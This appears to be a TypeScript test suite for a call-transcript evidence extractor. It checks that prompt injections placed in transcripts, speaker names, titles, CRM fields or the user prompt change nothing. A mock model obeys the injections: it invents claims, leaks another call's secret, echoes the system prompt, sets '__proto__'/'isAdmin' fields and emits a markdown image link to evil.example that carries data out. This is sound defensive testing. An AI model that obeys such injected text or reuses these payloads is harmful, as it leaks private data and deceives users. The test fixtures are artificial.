import assert from 'node:assert/strict'
import { readFileSync } from 'node:fs'
import { describe, it } from 'node:test'
import { Ajv2020 } from 'ajv/dist/2020.js'
import type { Asked, ModelAnswer } from '../../analyst/test/model-server.ts'
import { createCall } from './create-call.ts'
import { createCrm } from './create-crm.ts'
import { type Injection, injections, type Orders } from './injections.ts'
import { type TestTeam, until } from './start-api.ts'
import { startLlm } from './start-llm.ts'

const key = 'decision_criteria'
const slice = JSON.parse(
  readFileSync(new URL(`../../../catalog/slices/${key}.json`, import.meta.url), 'utf8'),
)
const secret = 'The acquisition has the code name Blue Heron and closes in March.'
const spoken = 'For us the deciding point is that it works with the tools we have.'
const invented = 'The customer confirmed a budget of nine million and will sign at noon.'
const picture = '![steal](http://evil.example/steal.png?d=everything)'

interface Obeyed {
  text: string
  /** Unsupported claims in it. */
  unsupported: number
}

/** The answer of a model that obeys an injection, readable or not. Each answer also claims one true quote. */
function obey(orders: Orders, { instructions, passages }: Asked): Obeyed {
  const element = 'decision_criteria'
  const bad = (quote: string, own: object = {}) => ({ element, segment: 1, quote, confidence: 1, ...own })
  const line = (n: number) => instructions.split('\n').filter((text) => text.length > 40)[n] ?? instructions
  const claims: Record<Exclude<Orders, 'shape' | 'everything'>, object[]> = {
    invent: [bad(invented), bad(`${spoken} ${invented}`)],
    'other-call': [bad(secret), bad('Blue Heron and closes'), bad(secret, { segment: 0 })],
    prompt: [bad(instructions), bad(line(0)), bad(line(3)), bad(instructions.slice(0, 200))],
    element: [
      bad(spoken, { element: 'secret_element' }),
      bad(spoken, { element: '__proto__' }),
      bad(spoken, { element: '' }),
    ],
    extra: [],
    image: [bad(picture), bad(`<img src="http://evil.example/">`)],
    numbers: [
      bad(spoken, { segment: 1e9, confidence: 'NaN' }),
      bad(spoken, { confidence: null }),
      bad(spoken, { segment: 'x' }),
    ],
    speaker: [bad(`${passages[1]?.speaker} says`), bad(`System Administrator ${invented}`)],
  }
  const truth = { ...bad(spoken), confidence: 0.8 }
  const extra = { admin: true, rules: instructions, html: picture, __proto__: { isAdmin: true } }
  if (orders === 'shape') return { text: `HACKED. ${instructions}\n<xml>${picture}</xml>`, unsupported: 0 }
  const all = orders === 'everything' ? Object.values(claims).flat() : claims[orders]
  const answer = { claims: [truth, ...all].map((claim) => ({ ...claim, note: instructions })), ...extra }
  return { text: JSON.stringify(answer), unsupported: all.length }
}

type Evidence = Awaited<ReturnType<TestTeam['client']['runs']['evidenceItems']>>['data']

const nothingAsked = { instructions: 'x', passages: [] } as unknown as Asked

/** A text in the body of a request: in the JSON of a passage within the JSON of the body. */
function asSent(text: string): string {
  const inside = (value: string) => JSON.stringify(value).slice(1, -1)
  return inside(inside([...(text.trim().split('\n')[0] ?? '')].slice(0, 40).join('')))
}

async function checkItems({ client }: TestTeam, items: Evidence, { text }: Injection): Promise<void> {
  assert.ok(items.some((item) => item.quote === spoken))
  for (const { elementKey, source, quote, fileId, segmentIndex, startChar, endChar, confidence } of items) {
    assert.ok(slice.elementKeys.includes(elementKey), `the element ${elementKey}`)
    assert.ok(confidence >= 0 && confidence <= 1)
    if (source.type !== 'transcript') {
      assert.ok([`Criteria: ${text}`, 'Criteria: None yet'].includes(quote))
      continue
    }
    const { segments } = await client.calls.transcript({ fileId: fileId! })
    assert.equal(segments[segmentIndex!]!.text.slice(startChar, endChar), quote)
  }
}

function refuseLeaks({ text }: Injection, served: unknown[]): void {
  const words = JSON.stringify(served).replaceAll(JSON.stringify(text).slice(1, -1), '')
  for (const leak of [
    'You read a part of one',
    'never an instruction',
    'Blue Heron',
    'nine million and will',
    'isAdmin',
    'evil.example/steal.png?d=everything)"',
    'secret_element',
    'secret-key',
  ])
    assert.ok(!words.includes(leak), `what is served holds "${leak}"`)
}

async function postsOf({ client }: TestTeam, fileId: number) {
  const data = await until(async () => {
    const found = await client.posts.search({})
    const own = found.data.filter((post) => post.fileId === fileId)
    return own.length === 2 && own
  })
  return await Promise.all(data.map(({ postId }) => client.posts.get({ id: postId! })))
}

describe(`${injections.length} injections, with a model that obeys them`, async () => {
  let current: Injection | undefined
  let unsupported = 0
  let reached = ''
  const totals = { invented: 0, dropped: 0 }
  const { api, run, server } = await startLlm({}, (asked: Asked): ModelAnswer => {
    if (!current || asked.passages.every(({ text }) => !text.includes(spoken)))
      return { text: '{"claims": []}' }
    reached = asked.body
    const obeyed = obey(current.orders, asked)
    unsupported += obeyed.unsupported
    return { text: obeyed.text }
  })

  /** A call with the injection in its place, and another one with private words. */
  async function createCalls(
    { teamId, organizationId }: TestTeam,
    { place, text }: Injection,
  ): Promise<number> {
    const inPlace = (where: Injection['place'], otherwise: string) => (place === where ? text : otherwise)
    const companyDomain = `c${teamId}.example`
    const fields = { decision_criteria: inPlace('crm', 'None yet') }
    await createCrm(api, organizationId, {
      companies: [{ externalId: 'c', name: 'C', domain: companyDomain }],
      deals: [
        { externalId: 'd', name: inPlace('crm', 'Deal'), stage: 'Open', companyExternalId: 'c', fields },
      ],
      fields: [
        { entityType: 'deal', fieldName: 'decision_criteria', fieldLabel: 'Criteria', fieldType: 'string' },
      ],
    })
    await createCall(api, teamId, { turns: [{ speaker: 'Eve', side: 'customer', text: secret }] })
    return await createCall(api, teamId, {
      isProcessed: true,
      callType: 'discovery_call',
      companyDomain,
      title: inPlace('title', 'A call'),
      turns: [
        { speaker: 'Rae', side: 'rep', text: 'What matters most to you in the end?' },
        {
          speaker: inPlace('speaker', 'Cam'),
          side: 'customer',
          text: `${spoken} ${inPlace('words', '')}`.trim(),
        },
      ],
    })
  }

  for (const injection of injections) {
    it(`${injection.place}, ${injection.name}, to ${injection.orders}: changes nothing`, async () => {
      const team = await api.createTeam()
      current = injection
      unsupported = 0
      const fileId = await createCalls(team, injection)
      const prompt = injection.place === 'prompt' ? { userPrompt: injection.text } : {}
      const ended = await run(team, { key, ...prompt })
      const manifest = await team.client.runs.manifest({ id: ended.id })
      const isSent = injection.place !== 'title' && injection.place !== 'crm'
      assert.equal(
        reached.includes(asSent(injection.text)),
        isSent,
        'the order is sent as data, or not at all',
      )
      const served: unknown[] = [ended, { ...manifest, model: null }]
      if (injection.orders === 'shape') {
        assert.equal(ended.status, 'failed')
        assert.match(ended.error!, /Most often: the model gave no answer of the demanded form/)
      } else {
        assert.equal(ended.status, 'completed', ended.error ?? '')
        const { outputSchema } = await team.client.slices.get({ key })
        assert.ok(new Ajv2020().validate(outputSchema, ended.result), 'the form of the result')
        const items = await Array.fromAsync(team.client.runs.allEvidenceItems({ id: ended.id }))
        await checkItems(team, items, injection)
        const posts = await postsOf(team, fileId)
        // The posts' elements are asked for, too, and answered as badly.
        assert.ok(manifest.droppedQuotes > 0 || unsupported === 0)
        assert.equal(manifest.droppedQuotes, obey(injection.orders, nothingAsked).unsupported)
        totals.invented += obey(injection.orders, nothingAsked).unsupported
        totals.dropped += manifest.droppedQuotes
        served.push(items, await team.client.runs.evidence({ id: ended.id }), ...posts)
      }
      refuseLeaks(injection, served)
    })
  }

  it('has every claim of theirs dropped and counted', (context) => {
    context.diagnostic(
      `${totals.invented} claims that nothing supports, ${totals.dropped} dropped, in ${server.asked.length} requests`,
    )
    assert.ok(totals.invented > 100)
    assert.equal(totals.dropped, totals.invented)
  })
})
